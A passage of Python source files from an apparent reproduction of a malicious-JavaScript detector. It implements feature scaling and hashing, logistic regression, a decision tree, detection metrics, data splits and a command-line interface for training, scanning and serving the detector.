    ``transform`` clips unseen data into the learned range before scaling so
    outputs stay in [0, 1].
    """

    def __init__(self) -> None:
        self.data_min_: np.ndarray | None = None
        self.data_max_: np.ndarray | None = None

    def fit(self, X) -> "MinMaxScaler":
        X = np.asarray(X, dtype=float)
        self.data_min_ = X.min(axis=0)
        self.data_max_ = X.max(axis=0)
        return self

    def transform(self, X) -> np.ndarray:
        if self.data_min_ is None or self.data_max_ is None:
            raise RuntimeError("MinMaxScaler used before fit()")
        X = np.asarray(X, dtype=float)
        span = self.data_max_ - self.data_min_
        span = np.where(span == 0.0, 1.0, span)
        clipped = np.clip(X, self.data_min_, self.data_max_)
        return (clipped - self.data_min_) / span

    def fit_transform(self, X) -> np.ndarray:
        return self.fit(X).transform(X)


class HashingVectorizer:
    """Fixed-width feature hashing for n-gram streams.

    CUJO/JAST/JSTAP-style pipelines produce very large n-gram vocabularies;
    hashing keeps the feature matrix bounded without a fit pass.  Signed
    hashing (one bit of the digest) reduces collision bias.  The hash is
    blake2s — stable across processes, unlike Python's salted ``hash()``,
    so trained models and measurements reproduce exactly.
    """

    def __init__(self, n_features: int = 4096):
        if n_features <= 0:
            raise ValueError("n_features must be positive")
        self.n_features = n_features

    def transform(self, documents: list[list[str]]) -> np.ndarray:
        """Each document is a list of (string) tokens/n-grams."""
        import hashlib

        X = np.zeros((len(documents), self.n_features), dtype=float)
        for row, tokens in enumerate(documents):
            for token in tokens:
                digest = hashlib.blake2s(token.encode("utf-8", "replace"), digest_size=8).digest()
                h = int.from_bytes(digest, "little")
                index = h % self.n_features
                sign = 1.0 if (h >> 60) & 1 else -1.0
                X[row, index] += sign
        return X


class CountVectorizer:
    """Vocabulary-based counting of pre-tokenized documents.

    ``max_features`` keeps the most frequent entries (by corpus count),
    matching the frequency-pruning the baseline papers apply.
    """

    def __init__(self, max_features: int | None = None, binary: bool = False):
        self.max_features = max_features
        self.binary = binary
        self.vocabulary_: dict[str, int] = {}

    def fit(self, documents: list[list[str]]) -> "CountVectorizer":
        counts: dict[str, int] = {}
        for tokens in documents:
            for token in tokens:
                counts[token] = counts.get(token, 0) + 1
        items = sorted(counts.items(), key=lambda kv: (-kv[1], kv[0]))
        if self.max_features is not None:
            items = items[: self.max_features]
        self.vocabulary_ = {token: i for i, (token, _) in enumerate(items)}
        return self

    def transform(self, documents: list[list[str]]) -> np.ndarray:
        if not self.vocabulary_ and self.max_features != 0:
            raise RuntimeError("CountVectorizer used before fit()")
        X = np.zeros((len(documents), max(len(self.vocabulary_), 1)), dtype=float)
        for row, tokens in enumerate(documents):
            for token in tokens:
                col = self.vocabulary_.get(token)
                if col is not None:
                    X[row, col] += 1.0
        if self.binary:
            X = (X > 0).astype(float)
        return X

    def fit_transform(self, documents: list[list[str]]) -> np.ndarray:
        return self.fit(documents).transform(documents)


def ngrams(tokens: list[str], n: int) -> list[str]:
    """Sliding-window n-grams of a token sequence, joined with ``\\x1f``."""
    if n <= 0:
        raise ValueError("n must be positive")
    if len(tokens) < n:
        return []
    return ["\x1f".join(tokens[i : i + n]) for i in range(len(tokens) - n + 1)]
