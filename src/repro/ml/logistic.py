"""L2-regularized logistic regression trained by full-batch gradient descent."""

from __future__ import annotations

import numpy as np


def _sigmoid(z: np.ndarray) -> np.ndarray:
    # Numerically stable piecewise sigmoid.
    out = np.empty_like(z)
    positive = z >= 0
    out[positive] = 1.0 / (1.0 + np.exp(-z[positive]))
    exp_z = np.exp(z[~positive])
    out[~positive] = exp_z / (1.0 + exp_z)
    return out


class LogisticRegression:
    """Binary logistic regression with gradient descent + L2 penalty.

    Args:
        learning_rate: Step size of gradient descent.
        n_iter: Number of full-batch iterations.
        l2: L2 regularization strength (0 disables).
        tol: Early-stop when the gradient norm drops below this.
    """

    def __init__(self, learning_rate: float = 0.1, n_iter: int = 500, l2: float = 1e-4, tol: float = 1e-6):
        self.learning_rate = learning_rate
        self.n_iter = n_iter
        self.l2 = l2
        self.tol = tol
        self.coef_: np.ndarray | None = None
        self.intercept_: float = 0.0
        self.classes_: np.ndarray | None = None

    def fit(self, X, y) -> "LogisticRegression":
        X = np.asarray(X, dtype=float)
        y = np.asarray(y)
        self.classes_ = np.unique(y)
        if len(self.classes_) != 2:
            raise ValueError("LogisticRegression supports binary labels only")
        target = (y == self.classes_[1]).astype(float)

        n, d = X.shape
        w = np.zeros(d)
        b = 0.0
        for _ in range(self.n_iter):
            p = _sigmoid(X @ w + b)
            error = p - target
            grad_w = X.T @ error / n + self.l2 * w
            grad_b = float(np.mean(error))
            w -= self.learning_rate * grad_w
            b -= self.learning_rate * grad_b
            if np.linalg.norm(grad_w) < self.tol:
                break
        self.coef_ = w
        self.intercept_ = b
        return self

    def decision_function(self, X) -> np.ndarray:
        if self.coef_ is None:
            raise RuntimeError("Classifier used before fit()")
        return np.asarray(X, dtype=float) @ self.coef_ + self.intercept_

    def predict_proba(self, X) -> np.ndarray:
        p1 = _sigmoid(self.decision_function(X))
        return np.column_stack([1.0 - p1, p1])

    def predict(self, X) -> np.ndarray:
        assert self.classes_ is not None
        return np.where(self.decision_function(X) >= 0.0, self.classes_[1], self.classes_[0])
