"""CART decision tree (Gini impurity, binary splits on numeric features).

A vectorized numpy implementation: each node split scans candidate
thresholds per feature using cumulative class counts, so training is
O(n_features × n log n) per node rather than Python-loop-per-sample.
Supports ``max_features`` subsampling and bootstrap-weighted fitting so
:class:`repro.ml.forest.RandomForestClassifier` can reuse it directly.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np


@dataclass
class _Node:
    feature: int = -1
    threshold: float = 0.0
    left: "_Node | None" = None
    right: "_Node | None" = None
    # Leaf payload: class-probability vector.
    proba: np.ndarray | None = None

    @property
    def is_leaf(self) -> bool:
        return self.proba is not None


class DecisionTreeClassifier:
    """Binary/multiclass CART classifier.

    Args:
        max_depth: Maximum tree depth (None = unlimited).
        min_samples_split: Minimum samples required to attempt a split.
        min_samples_leaf: Minimum samples each child must keep.
        max_features: Number of features examined per split — int, "sqrt",
            or None (all features).  Random forests pass "sqrt".
        rng: Randomness for feature subsampling.
    """

    def __init__(
        self,
        max_depth: int | None = None,
        min_samples_split: int = 2,
        min_samples_leaf: int = 1,
        max_features: int | str | None = None,
        rng: np.random.Generator | None = None,
    ):
        self.max_depth = max_depth
        self.min_samples_split = min_samples_split
        self.min_samples_leaf = min_samples_leaf
        self.max_features = max_features
        self.rng = rng if rng is not None else np.random.default_rng()
        self.classes_: np.ndarray | None = None
        self.n_features_: int = 0
        self.feature_importances_: np.ndarray | None = None
        self._root: _Node | None = None

    # ------------------------------------------------------------------ fit

    def fit(self, X, y, sample_weight=None) -> "DecisionTreeClassifier":
        X = np.asarray(X, dtype=float)
        y = np.asarray(y)
        if X.ndim != 2:
            raise ValueError("X must be 2-D")
        if len(X) != len(y):
            raise ValueError("X and y length mismatch")
        if len(X) == 0:
            raise ValueError("empty training set")
        self.classes_, y_encoded = np.unique(y, return_inverse=True)
        self.n_features_ = X.shape[1]
        weights = (
            np.ones(len(y), dtype=float)
            if sample_weight is None
            else np.asarray(sample_weight, dtype=float)
        )
        self._importance_acc = np.zeros(self.n_features_)
        self._root = self._grow(X, y_encoded, weights, depth=0)
        total = self._importance_acc.sum()
        self.feature_importances_ = (
            self._importance_acc / total if total > 0 else np.zeros(self.n_features_)
        )
        return self

    def _n_candidate_features(self) -> int:
        if self.max_features is None:
            return self.n_features_
        if self.max_features == "sqrt":
            return max(1, int(np.sqrt(self.n_features_)))
        return min(int(self.max_features), self.n_features_)

    def _leaf(self, y: np.ndarray, weights: np.ndarray) -> _Node:
        proba = np.zeros(len(self.classes_))
        np.add.at(proba, y, weights)
        total = proba.sum()
        proba = proba / total if total > 0 else np.full(len(self.classes_), 1 / len(self.classes_))
        return _Node(proba=proba)

    def _grow(self, X: np.ndarray, y: np.ndarray, weights: np.ndarray, depth: int) -> _Node:
        n = len(y)
        if (
            n < self.min_samples_split
            or (self.max_depth is not None and depth >= self.max_depth)
            or len(np.unique(y)) == 1
        ):
            return self._leaf(y, weights)

        feature, threshold, gain = self._best_split(X, y, weights)
        if feature < 0:
            return self._leaf(y, weights)

        mask = X[:, feature] <= threshold
        left_count, right_count = int(mask.sum()), int((~mask).sum())
        if left_count < self.min_samples_leaf or right_count < self.min_samples_leaf:
            return self._leaf(y, weights)

        self._importance_acc[feature] += gain * weights.sum()
        node = _Node(feature=feature, threshold=threshold)
        node.left = self._grow(X[mask], y[mask], weights[mask], depth + 1)
        node.right = self._grow(X[~mask], y[~mask], weights[~mask], depth + 1)
        return node

    def _best_split(self, X: np.ndarray, y: np.ndarray, weights: np.ndarray) -> tuple[int, float, float]:
        """Return (feature, threshold, gini_gain); feature=-1 if no split."""
        n_classes = len(self.classes_)
        total_weight = weights.sum()
        class_weight = np.zeros(n_classes)
        np.add.at(class_weight, y, weights)
        parent_gini = 1.0 - np.sum((class_weight / total_weight) ** 2)

        best = (-1, 0.0, 0.0)
        features = self.rng.permutation(self.n_features_)[: self._n_candidate_features()]

        for feature in features:
            column = X[:, feature]
            order = np.argsort(column, kind="stable")
            sorted_vals = column[order]
            sorted_y = y[order]
            sorted_w = weights[order]

            # Cumulative weighted class counts after each position.
            onehot = np.zeros((len(y), n_classes))
            onehot[np.arange(len(y)), sorted_y] = sorted_w
            left_cum = np.cumsum(onehot, axis=0)

            # Candidate split positions: where consecutive values differ.
            boundaries = np.flatnonzero(sorted_vals[1:] != sorted_vals[:-1])
            if boundaries.size == 0:
                continue

            left_weight = left_cum[boundaries].sum(axis=1)
            right_weight = total_weight - left_weight
            valid = (left_weight > 0) & (right_weight > 0)
            if not np.any(valid):
                continue

            left_p = left_cum[boundaries] / left_weight[:, None]
            right_counts = class_weight[None, :] - left_cum[boundaries]
            right_p = right_counts / right_weight[:, None]
            gini_left = 1.0 - np.sum(left_p**2, axis=1)
            gini_right = 1.0 - np.sum(right_p**2, axis=1)
            weighted = (left_weight * gini_left + right_weight * gini_right) / total_weight
            gain = parent_gini - weighted
            gain[~valid] = -np.inf

            best_i = int(np.argmax(gain))
            if gain[best_i] > best[2] + 1e-12:
                boundary = boundaries[best_i]
                threshold = 0.5 * (sorted_vals[boundary] + sorted_vals[boundary + 1])
                best = (int(feature), float(threshold), float(gain[best_i]))

        return best

    # -------------------------------------------------------------- predict

    def predict_proba(self, X) -> np.ndarray:
        if self._root is None:
            raise RuntimeError("Classifier used before fit()")
        X = np.asarray(X, dtype=float)
        out = np.empty((len(X), len(self.classes_)))
        for i, row in enumerate(X):
            node = self._root
            while not node.is_leaf:
                node = node.left if row[node.feature] <= node.threshold else node.right
            out[i] = node.proba
        return out

    def predict(self, X) -> np.ndarray:
        proba = self.predict_proba(X)
        return self.classes_[np.argmax(proba, axis=1)]

    # ------------------------------------------------------------ inspection

    def depth(self) -> int:
        def _depth(node: _Node | None) -> int:
            if node is None or node.is_leaf:
                return 0
            return 1 + max(_depth(node.left), _depth(node.right))

        return _depth(self._root)

    def node_count(self) -> int:
        def _count(node: _Node | None) -> int:
            if node is None:
                return 0
            return 1 + _count(node.left) + _count(node.right)

        return _count(self._root)
