"""Binary-classification metrics used throughout the evaluation.

The paper reports accuracy, F1, FPR (false-positive rate) and FNR
(false-negative rate); convention: label ``1`` = malicious (positive),
``0`` = benign (negative).
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np


def _as_array(values) -> np.ndarray:
    return np.asarray(values).ravel()


def confusion_counts(y_true, y_pred) -> tuple[int, int, int, int]:
    """Return (tp, fp, tn, fn) for binary labels in {0, 1}."""
    t = _as_array(y_true).astype(int)
    p = _as_array(y_pred).astype(int)
    if t.shape != p.shape:
        raise ValueError(f"Shape mismatch: {t.shape} vs {p.shape}")
    tp = int(np.sum((t == 1) & (p == 1)))
    fp = int(np.sum((t == 0) & (p == 1)))
    tn = int(np.sum((t == 0) & (p == 0)))
    fn = int(np.sum((t == 1) & (p == 0)))
    return tp, fp, tn, fn


def accuracy(y_true, y_pred) -> float:
    t, p = _as_array(y_true), _as_array(y_pred)
    if t.size == 0:
        return 0.0
    return float(np.mean(t.astype(int) == p.astype(int)))


def precision(y_true, y_pred) -> float:
    tp, fp, _, _ = confusion_counts(y_true, y_pred)
    return tp / (tp + fp) if tp + fp else 0.0


def recall(y_true, y_pred) -> float:
    tp, _, _, fn = confusion_counts(y_true, y_pred)
    return tp / (tp + fn) if tp + fn else 0.0


def f1_score(y_true, y_pred) -> float:
    p = precision(y_true, y_pred)
    r = recall(y_true, y_pred)
    return 2 * p * r / (p + r) if p + r else 0.0


def false_positive_rate(y_true, y_pred) -> float:
    _, fp, tn, _ = confusion_counts(y_true, y_pred)
    return fp / (fp + tn) if fp + tn else 0.0


def false_negative_rate(y_true, y_pred) -> float:
    tp, _, _, fn = confusion_counts(y_true, y_pred)
    return fn / (fn + tp) if fn + tp else 0.0


@dataclass(frozen=True)
class DetectionReport:
    """The metric row the paper's tables report, in percent."""

    accuracy: float
    f1: float
    fpr: float
    fnr: float
    precision: float
    recall: float

    def row(self) -> str:
        return (
            f"acc={self.accuracy:5.1f}  F1={self.f1:5.1f}  "
            f"FPR={self.fpr:5.1f}  FNR={self.fnr:5.1f}"
        )


def detection_report(y_true, y_pred) -> DetectionReport:
    """Compute the full metric row (percentages, one decimal of precision)."""
    return DetectionReport(
        accuracy=100.0 * accuracy(y_true, y_pred),
        f1=100.0 * f1_score(y_true, y_pred),
        fpr=100.0 * false_positive_rate(y_true, y_pred),
        fnr=100.0 * false_negative_rate(y_true, y_pred),
        precision=100.0 * precision(y_true, y_pred),
        recall=100.0 * recall(y_true, y_pred),
    )
