"""Data-splitting utilities for the evaluation protocol of Sec. IV-A4."""

from __future__ import annotations

import numpy as np


def train_test_split(X, y, test_size: float = 0.25, rng: np.random.Generator | None = None):
    """Shuffle-split into train and test partitions.

    Args:
        X: Feature matrix or list of samples.
        y: Labels aligned with ``X``.
        test_size: Fraction of samples placed in the test partition.
        rng: Source of randomness; pass a seeded generator for determinism.

    Returns:
        ``(X_train, X_test, y_train, y_test)``.
    """
    if not 0.0 < test_size < 1.0:
        raise ValueError("test_size must be in (0, 1)")
    if rng is None:
        rng = np.random.default_rng()
    y = np.asarray(y)
    n = len(y)
    if n == 0:
        raise ValueError("empty dataset")
    indices = rng.permutation(n)
    cut = int(round(n * (1.0 - test_size)))
    train_idx, test_idx = indices[:cut], indices[cut:]
    X_train = _take(X, train_idx)
    X_test = _take(X, test_idx)
    return X_train, X_test, y[train_idx], y[test_idx]


def stratified_sample(y, per_class: dict[int, int], rng: np.random.Generator):
    """Pick ``per_class[label]`` indices for each label, without replacement."""
    y = np.asarray(y)
    chosen: list[np.ndarray] = []
    for label, count in per_class.items():
        pool = np.flatnonzero(y == label)
        if len(pool) < count:
            raise ValueError(f"Class {label} has only {len(pool)} samples, need {count}")
        chosen.append(rng.choice(pool, size=count, replace=False))
    result = np.concatenate(chosen)
    rng.shuffle(result)
    return result


def _take(X, indices):
    if isinstance(X, np.ndarray):
        return X[indices]
    return [X[i] for i in indices]
