"""Command-line interface: train, scan, explain, and serve.

Usage::

    python -m repro.cli train  --out model_dir [--train-per-class 60] [--seed 0]
    python -m repro.cli scan   --model model_dir [--workers 4] [--cache-dir DIR]
                               [--format json|text] file_dir_or_dash [...]
    python -m repro.cli analyze [--format json|text] [--fail-on SEVERITY]
                               file_dir_or_dash [...]
    python -m repro.cli explain --model model_dir [--top 5] [--format json|text]
    python -m repro.cli serve  --model model_dir [--host H] [--port P]
                               [--workers N] [--max-batch B] [--max-wait-ms MS]
                               [--queue-limit Q] [--cache-dir DIR] [--shards N]
    python -m repro.cli cluster --model model_dir [--shards N] [--port P]
                               [--cache-dir DIR] [--vnodes V]
    python -m repro.cli top    [--url http://host:port] [--interval-s S] [--count N]
    python -m repro.cli loadgen --port P [--concurrency C] [--repeats R]
                               [--format json|text] file_dir_or_dash [...]

``train`` fits on the synthetic corpus (the offline default); real
deployments would swap in their own labeled corpus via the library API.
``scan`` fans extraction out over ``--workers`` processes and, with
``--cache-dir``, reuses content-addressed embeddings across runs;
``--format json`` emits one machine-readable ScanReport object.  A lone
``-`` argument reads one script from stdin, so the CLI composes with
pipes (``curl … | repro scan --model m -``).  ``serve`` keeps the model
resident behind an HTTP endpoint with micro-batching (see
:mod:`repro.serve`).

``analyze`` runs the static-analysis rule catalog alone — no model, no
embeddings — and prints explainable findings with source spans.

``cluster`` (or ``serve --shards N``) boots the sharded tier: a router
consistent-hashing scans across N supervised shard daemons (see
:mod:`repro.serve.cluster` and DESIGN.md §11).

``top`` polls a router's ``GET /v1/status`` and renders a live fleet
dashboard (per-shard rps, p95, queue depth, cache hit %, SLO burn
states); ``loadgen`` drives concurrent scan load and reports latency
percentiles, with ``--format json`` for machine consumers (see
DESIGN.md §15).

Duration flags follow one unit-suffixed convention (``--timeout-s``,
``--request-timeout-s``, ``--breaker-reset-s``, ``--max-wait-ms``,
``--trace-slow-ms``); pre-rename spellings remain as hidden deprecated
aliases that warn on stderr.

``scan``/``analyze``/``serve`` accept ``--log-level``/``--log-format``
(structured JSON logs carry ``trace_id``/``span_id`` fields).  ``scan
--trace`` records a span tree plus verdict provenance (top attention
paths, decisive rules, cluster feature weights) per file; ``explain
--trace FILE…`` prints the provenance alone.  ``serve`` samples traces
at ``--trace-sample-rate`` and retains them in a ring buffer behind
``GET /debug/traces`` (an inbound sampled ``traceparent`` always wins).

Exit codes — the ``scan``/``analyze`` contract scripts rely on
(``grep``-style):

* ``0`` — completed, nothing flagged (``analyze``: no finding at or above
  ``--fail-on``),
* ``1`` — completed, something flagged (malicious verdict / failing finding),
* ``2`` — usage or I/O error (bad flags, no input, unreadable model/cache).
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

from repro.core import JSRevealer, JSRevealerConfig
from repro.core.persistence import load_detector, save_detector
from repro.datasets import experiment_split


def _cmd_train(args: argparse.Namespace) -> int:
    split = experiment_split(
        seed=args.seed,
        pretrain_per_class=args.pretrain_per_class,
        train_per_class=args.train_per_class,
        test_per_class=2,
        realistic=True,
    )
    config = JSRevealerConfig(
        embed_dim=args.embed_dim,
        pretrain_epochs=args.epochs,
        k_benign=args.k_benign,
        k_malicious=args.k_malicious,
        seed=args.seed,
    )
    detector = JSRevealer(config)
    print(f"pre-training embedder on {len(split.pretrain)} scripts…", file=sys.stderr)
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    print(f"fitting detector on {len(split.train)} scripts…", file=sys.stderr)
    detector.fit(split.train.sources, split.train.labels)
    save_detector(detector, args.out)
    print(f"saved model to {args.out}")
    return 0


def _collect_files(paths: list[str]) -> list[Path]:
    out: list[Path] = []
    for raw in paths:
        path = Path(raw)
        if path.is_dir():
            out.extend(sorted(path.glob("**/*.js")))
        elif path.exists():
            out.append(path)
        else:
            print(f"warning: {path} not found", file=sys.stderr)
    return out


def _read_inputs(paths: list[str]) -> tuple[list[str], list[str]]:
    """Resolve file/dir/``-`` arguments into (sources, names)."""
    files = _collect_files([p for p in paths if p != "-"])
    sources = [f.read_text(errors="replace") for f in files]
    names = [str(f) for f in files]
    if "-" in paths:  # one script from stdin, after any file arguments
        sources.append(sys.stdin.read())
        names.append("<stdin>")
    return sources, names


def _configure_logging(args: argparse.Namespace, default_level: str = "warning") -> None:
    from repro.obs import configure_logging

    configure_logging(
        level=getattr(args, "log_level", None) or default_level,
        log_format=getattr(args, "log_format", None) or "text",
    )


def _add_logging_flags(parser: argparse.ArgumentParser, default_level: str) -> None:
    parser.add_argument("--log-level", choices=("debug", "info", "warning", "error"),
                        default=default_level, help="repro logger threshold")
    parser.add_argument("--log-format", choices=("text", "json"), default="text",
                        help="text lines or one JSON object per log record (with trace ids)")


def _print_provenance(result, indent: str = "    ") -> None:
    """Text-mode rendering of one file's verdict provenance."""
    provenance = (result.trace or {}).get("provenance") or {}
    for rule in provenance.get("rules", []):
        decisive = "  (decisive)" if rule.get("decisive") else ""
        print(f"{indent}rule {rule['rule_id']} [{rule['severity']}]{decisive}")
    for entry in provenance.get("top_paths", [])[:3]:
        print(f"{indent}path w={entry['weight']:.4f}  {entry['path'][:100]}")
    for entry in provenance.get("cluster_features", [])[:3]:
        print(
            f"{indent}feature #{entry['feature_index']} ({entry['cluster_label']}) "
            f"weight={entry['weight']:.4f}  {entry['central_path'][:80]}"
        )


def _cmd_scan(args: argparse.Namespace) -> int:
    # Exit-code contract: 0 = clean, 1 = malicious found, 2 = usage/IO error.
    _configure_logging(args)
    if args.workers < 1:
        print("error: --workers must be at least 1", file=sys.stderr)
        return 2
    sources, names = _read_inputs(args.paths)
    if not sources:
        print("no input files", file=sys.stderr)
        return 2
    try:
        detector = load_detector(args.model)
    except (OSError, ValueError, KeyError) as error:
        print(f"error: cannot load model {args.model!r}: {error}", file=sys.stderr)
        return 2
    limits = None
    if args.timeout_s is not None or args.max_rss_mb is not None:
        from repro.faults import ScanLimits

        limits = ScanLimits(timeout_s=args.timeout_s, max_rss_mb=args.max_rss_mb)
        try:
            limits.validate()
        except ValueError as error:
            print(f"error: {error}", file=sys.stderr)
            return 2
    quarantine = None
    if args.quarantine_dir is not None:
        from repro.faults import QuarantineJournal

        quarantine = QuarantineJournal.in_dir(args.quarantine_dir)
    try:
        report = detector.scan_batch(
            sources,
            names=names,
            n_workers=args.workers,
            cache_dir=args.cache_dir,
            threshold=args.threshold,
            triage=args.triage,
            limits=limits,
            quarantine=quarantine,
            trace=args.trace,
            deobfuscate=args.deobfuscate,
        )
    except OSError as error:
        print(f"error: cache directory {args.cache_dir!r} unusable: {error}", file=sys.stderr)
        return 2
    from repro.obs import get_logger

    get_logger("cli").debug(
        "scan complete",
        extra={
            "n_files": report.n_files,
            "n_malicious": report.n_malicious,
            "trace_id": (report.trace or {}).get("trace_id"),
        },
    )
    if args.format == "json":
        print(report.to_json())
    else:
        for result in report.results:
            verdict = "MALICIOUS" if result.malicious else "clean"
            cached = "  (cached)" if result.cache_hit else ""
            triaged = "  (triaged)" if result.triaged else ""
            normalized = (
                "  (deobfuscated)" if (result.normalization or {}).get("changed") else ""
            )
            flags = cached + triaged + normalized
            if result.status != "ok":
                flags += f"  [{result.status}{', degraded' if result.degraded else ''}]"
            print(f"{verdict:9s}  P={result.probability:.3f}  {result.path}{flags}")
            if args.trace:
                _print_provenance(result)
        if args.trace and report.trace is not None:
            print(f"# trace {report.trace['trace_id']}: {len(report.trace['spans'])} spans",
                  file=sys.stderr)
        print(f"# {report.summary()}", file=sys.stderr)
    return 1 if report.n_malicious else 0


def _format_witness(finding) -> list[str]:
    """Indented source→sink hop lines under a flow finding."""
    lines = []
    for hop in finding.witness:
        raw = hop.get("raw_line")
        span = f"{hop.get('line', '?')}:{hop.get('col', '?')}"
        if raw is not None:
            span += f" (raw line {raw})"
        snippet = hop.get("snippet", "")
        lines.append(f"    {span:>18}  {hop.get('op', '?'):<18}  {snippet}")
    return lines


def _cmd_analyze(args: argparse.Namespace) -> int:
    # Same exit-code contract as scan: 0 clean, 1 flagged, 2 usage error —
    # "flagged" here means a finding at or above --fail-on severity.
    from repro.analysis import Analyzer, severity_at_least

    _configure_logging(args)
    sources, names = _read_inputs(args.paths)
    if not sources:
        print("no input files", file=sys.stderr)
        return 2
    analyzer = Analyzer()
    norm_dicts: list[dict | None] = [None] * len(sources)
    if getattr(args, "deobfuscate", False):
        # Same ordering contract as the scan pipeline: normalize first so
        # the rules (and the taint engine) see the deobfuscated text, and
        # map finding spans back to the submitted file via the line map.
        from repro.deobfuscate import Deobfuscator

        deobfuscator = Deobfuscator()
        reports = []
        for source, name in zip(sources, names):
            normalized, norm_report = deobfuscator.normalize(source, name=name)
            line_map = norm_report.line_map if norm_report.changed else None
            reports.append(
                analyzer.analyze(
                    normalized,
                    name,
                    line_map=line_map,
                    raw_source=source if line_map is not None else None,
                )
            )
            if norm_report.interesting:
                norm_dicts[len(reports) - 1] = norm_report.to_dict()
    else:
        reports = analyzer.analyze_batch(sources, names=names)
    failing = sum(
        1
        for report in reports
        for finding in report.findings
        if severity_at_least(finding.severity, args.fail_on)
    )
    if args.format == "json":
        report_dicts = [r.to_dict() for r in reports]
        for report_dict, norm in zip(report_dicts, norm_dicts):
            if norm is not None:
                report_dict["normalization"] = norm
        print(
            json.dumps(
                {
                    "n_files": len(reports),
                    "n_findings": sum(r.n_findings for r in reports),
                    "n_failing": failing,
                    "fail_on": args.fail_on,
                    "rules": analyzer.rule_ids(),
                    "reports": report_dicts,
                },
                indent=2,
            )
        )
    else:
        for report in reports:
            for finding in report.findings:
                print(finding.format(report.name))
                for line in _format_witness(finding):
                    print(line)
        n_findings = sum(r.n_findings for r in reports)
        suppressed = sum(r.suppressed for r in reports)
        print(
            f"# analyzed {len(reports)} files: {n_findings} findings "
            f"({failing} at/above {args.fail_on}, {suppressed} suppressed)",
            file=sys.stderr,
        )
    return 1 if failing else 0


class _DeprecatedAlias(argparse.Action):
    """Hidden back-compat spelling of a renamed flag.

    Stores into the canonical dest and warns once on stderr, so old
    invocations keep working while the help text shows only the
    unit-suffixed convention (``--request-timeout-s``, ``--timeout-s``,
    ``--max-wait-ms``, …).
    """

    def __init__(self, option_strings, dest, successor: str = "", **kwargs):
        kwargs["help"] = argparse.SUPPRESS
        self.successor = successor
        super().__init__(option_strings, dest, **kwargs)

    def __call__(self, parser, namespace, values, option_string=None):
        print(
            f"warning: {option_string} is deprecated; use {self.successor}",
            file=sys.stderr,
        )
        setattr(namespace, self.dest, values)


def _shard_flags(args: argparse.Namespace) -> list[str]:
    """``repro serve`` flags every shard of a cluster is spawned with."""
    flags = [
        "--workers", str(args.workers),
        "--max-batch", str(args.max_batch),
        "--max-wait-ms", str(args.max_wait_ms),
        "--queue-limit", str(args.queue_limit),
        "--threshold", str(args.threshold),
    ]
    if getattr(args, "deobfuscate", False):
        flags.append("--deobfuscate")
    return flags


def _run_cluster(args: argparse.Namespace, n_shards: int) -> int:
    from repro.serve import AutoscaleConfig, ClusterConfig, RouterConfig, run_cluster

    min_shards = getattr(args, "min_shards", None)
    max_shards = getattr(args, "max_shards", None)
    autoscale = None
    if min_shards is not None or max_shards is not None:
        autoscale = AutoscaleConfig(
            min_shards=min_shards if min_shards is not None else 1,
            max_shards=max_shards if max_shards is not None else max(n_shards, 4),
            up_queue_depth=getattr(args, "scale_up_queue_depth", 8.0),
            down_queue_depth=getattr(args, "scale_down_queue_depth", 1.0),
            sustain_s=getattr(args, "scale_sustain_s", 5.0),
            cooldown_s=getattr(args, "scale_cooldown_s", 30.0),
        )
    try:
        config = ClusterConfig(
            model_dir=args.model,
            n_shards=n_shards,
            host=args.host,
            port=args.port,
            bind=getattr(args, "bind", None),
            cache_dir=args.cache_dir,
            shard_args=_shard_flags(args),
            router=RouterConfig(
                # The router budget wraps a shard's own queueing budget and
                # any retries, so it must not be the tighter of the two.
                request_timeout_s=args.request_timeout_s + 10.0,
                vnodes=getattr(args, "vnodes", 64),
                trace_sample_rate=args.trace_sample_rate,
                replicas=getattr(args, "replicas", 2),
                verdict_cache_size=getattr(args, "verdict_cache_size", 1024),
            ),
            autoscale=autoscale,
            restart_budget=getattr(args, "restart_budget", 5),
            restart_backoff_s=getattr(args, "restart_backoff_s", 0.5),
        )
        config.validate()
    except ValueError as error:
        print(f"error: {error}", file=sys.stderr)
        return 2
    try:
        return run_cluster(config)
    except (OSError, RuntimeError) as error:  # bind failure, shards never ready
        print(f"error: {error}", file=sys.stderr)
        return 2


def _cmd_cluster(args: argparse.Namespace) -> int:
    _configure_logging(args, default_level="info")
    return _run_cluster(args, n_shards=args.shards)


def _cmd_serve(args: argparse.Namespace) -> int:
    from repro.serve import ServeConfig, run_server

    _configure_logging(args, default_level="info")
    if args.shards > 1:
        return _run_cluster(args, n_shards=args.shards)
    try:
        config = ServeConfig(
            host=args.host,
            port=args.port,
            n_workers=args.workers,
            max_batch=args.max_batch,
            max_wait_ms=args.max_wait_ms,
            queue_limit=args.queue_limit,
            cache_dir=args.cache_dir,
            threshold=args.threshold,
            request_timeout_s=args.request_timeout_s,
            timeout_s=args.timeout_s,
            max_rss_mb=args.max_rss_mb,
            quarantine_dir=args.quarantine_dir,
            breaker_threshold=args.breaker_threshold,
            breaker_reset_s=args.breaker_reset_s,
            max_body_bytes=args.max_body_bytes,
            trace_sample_rate=args.trace_sample_rate,
            trace_capacity=args.trace_capacity,
            trace_slow_ms=args.trace_slow_ms,
            deobfuscate=args.deobfuscate,
        )
        config.validate()
    except ValueError as error:
        print(f"error: {error}", file=sys.stderr)
        return 2
    try:
        detector = load_detector(args.model)
    except (OSError, ValueError, KeyError) as error:
        print(f"error: cannot load model {args.model!r}: {error}", file=sys.stderr)
        return 2
    try:
        return run_server(detector, config)
    except OSError as error:  # bind failure, unusable cache dir
        print(f"error: {error}", file=sys.stderr)
        return 2


def _na(value, spec: str = "") -> str:
    """Render a possibly-``None`` status number (scrape hasn't landed yet)."""
    if value is None:
        return "-"
    return format(value, spec) if spec else str(value)


def _format_top(payload: dict) -> list[str]:
    """One ``repro top`` frame from a ``/v1/status`` payload."""
    router = payload.get("router") or {}
    lines = [
        f"fleet {payload.get('status', '?'):>8s}   "
        f"shards {payload.get('n_healthy', '?')}/{payload.get('n_shards', '?')} healthy   "
        f"uptime {_na(payload.get('uptime_s'), '.0f')}s   "
        f"router rps={_na(router.get('rps'), '.1f')} "
        f"p95={_na(router.get('p95_ms'), '.1f')}ms"
    ]
    slos = payload.get("slo") or []
    if slos:
        lines.append("")
        lines.append(f"{'SLO':<24s} {'state':>6s} {'burn fast':>10s} {'burn slow':>10s}  objective")
        for slo in slos:
            burn = slo.get("burn_rate") or {}
            lines.append(
                f"{slo.get('name', '?'):<24s} {slo.get('state', '?'):>6s} "
